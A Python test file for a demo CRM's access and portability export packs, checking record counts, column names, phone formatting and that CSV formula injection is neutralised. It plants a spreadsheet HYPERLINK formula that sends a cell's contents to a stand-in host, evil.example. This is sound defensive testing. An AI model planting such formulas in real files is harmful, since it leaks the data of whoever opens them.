"""The demo CRM's access and portability packs as Jane would read them (SQLite and PostgreSQL
sources): unique column names, no echo rows, one count of records everywhere, phone numbers
as numbers and formulas neutralised."""

import csv
import io
import json
import sqlite3
import zipfile
from typing import Any

import asyncpg
from httpx import AsyncClient
from sqlalchemy.engine import make_url

from app.demo import JANE_DOE
from app.worker import Worker
from tests.conftest import _asyncpg_dsn
from tests.factories import verified_request
from tests.fulfilment.conftest import CrmSource, fulfil_and_wait

JANE = {"email": JANE_DOE["email"], "name": "Jane Doe"}
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


async def plant_comment(crm: CrmSource, comment: str) -> None:
    """Someone filled in Jane's survey comment with a formula."""
    statement = "UPDATE survey_responses SET comment = {} WHERE customer_id = 'C-1001'"
    if crm.kind == "sqlite":
        path = make_url(crm.url).database
        assert path is not None
        connection = sqlite3.connect(path)
        with connection:
            connection.execute(statement.format("?"), (comment,))
        connection.close()
        return
    target = await asyncpg.connect(_asyncpg_dsn(crm.url))
    try:
        await target.execute(statement.format("$1"), comment)
    finally:
        await target.close()


async def download(
    client: AsyncClient, headers: dict[str, str], request_id: str, export_format: str
) -> bytes:
    response = await client.get(
        f"/v1/requests/{request_id}/export", params={"format": export_format}, headers=headers
    )
    assert response.status_code == 200, response.text
    return response.content


def read_csvs(pack: bytes) -> tuple[dict[str, Any], dict[str, list[list[str]]]]:
    with zipfile.ZipFile(io.BytesIO(pack)) as archive:
        manifest = json.loads(archive.read("manifest.json"))
        files = {
            name: list(csv.reader(io.StringIO(archive.read(name).decode(), newline="")))
            for name in archive.namelist()
            if name.endswith(".csv")
        }
    return manifest, files


def assert_counts_agree(
    manifest: dict[str, Any], files: dict[str, list[list[str]]], document: dict[str, Any]
) -> None:
    """One definition of a record (a row of a table) in the manifest, JSON and every file."""
    assert manifest["summary"] == document["summary"]
    keys = set()
    for entry in manifest["files"]:
        if entry["name"] in files:
            rows = files[entry["name"]][1:]
            assert entry["records"] == len(rows), entry["name"]
            keys |= {tuple(row[:3]) for row in rows}
    assert len(keys) == document["summary"]["records"]
    for header, *_ in files.values():
        assert len({name.casefold() for name in header}) == len(header), header


async def test_access_pack_reads_as_jane_expects(
    client: AsyncClient,
    officer_headers: dict[str, str],
    integration_headers: dict[str, str],
    crm: CrmSource,
    worker: Worker,
) -> None:
    await plant_comment(crm, FORMULA)
    dsr = await verified_request(client, integration_headers, officer_headers, subject=JANE)

    done = await fulfil_and_wait(client, officer_headers, dsr["id"], worker)

    assert done["fulfilment"]["status"] == "succeeded", done["fulfilment"]
    document = json.loads(await download(client, officer_headers, dsr["id"], "json"))
    manifest, files = read_csvs(await download(client, officer_headers, dsr["id"], "csv"))
    assert done["fulfilment"]["result"]["records"] == document["summary"]["records"] == 10
    assert_counts_agree(manifest, files, document)
    # identity.csv: Jane's contact record, not the customer number every table links with.
    assert [row[:3] for row in files["identity.csv"][1:]] == [["demo_crm", "contacts", "C-1001"]]
    # marketing.csv: where the consent came from, apart from the data source.
    assert files["marketing.csv"][0] == [
        "source",
        "table",
        "record_id",
        "id",
        "channel",
        "consented",
        "marketing_preferences.source",
        "updated_at",
    ]
    assert {row[0] for row in files["marketing.csv"][1:]} == {"demo_crm"}
    # A phone number is a number to a spreadsheet; the planted formula is neutralised.
    contact = dict(zip(files["contact.csv"][0], files["contact.csv"][1], strict=True))
    assert contact["phone"] == JANE_DOE["phone"] == "+441632960001"
    assert files["feedback.csv"][1][-1] == "'" + FORMULA
    (survey,) = next(t for t in document["tables"] if t["table"] == "survey_responses")["rows"]
    assert survey["comment"] == FORMULA


async def test_portability_pack_counts_and_neutralises_the_same_way(
    client: AsyncClient,
    officer_headers: dict[str, str],
    integration_headers: dict[str, str],
    crm: CrmSource,
    worker: Worker,
) -> None:
    await plant_comment(crm, FORMULA)
    dsr = await verified_request(
        client,
        integration_headers,
        officer_headers,
        type="portability",
        subject=JANE,
        details={"formats": ["json", "csv"]},
    )

    done = await fulfil_and_wait(client, officer_headers, dsr["id"], worker)

    assert done["fulfilment"]["status"] == "succeeded", done["fulfilment"]
    document = json.loads(await download(client, officer_headers, dsr["id"], "json"))
    manifest, files = read_csvs(await download(client, officer_headers, dsr["id"], "csv"))
    assert done["fulfilment"]["result"]["records"] == document["summary"]["records"]
    assert_counts_agree(manifest, files, document)
    contact = dict(zip(files["contact.csv"][0], files["contact.csv"][1], strict=True))
    assert contact["phone"] == "+441632960001"
    assert files["feedback.csv"][1][-1] == "'" + FORMULA
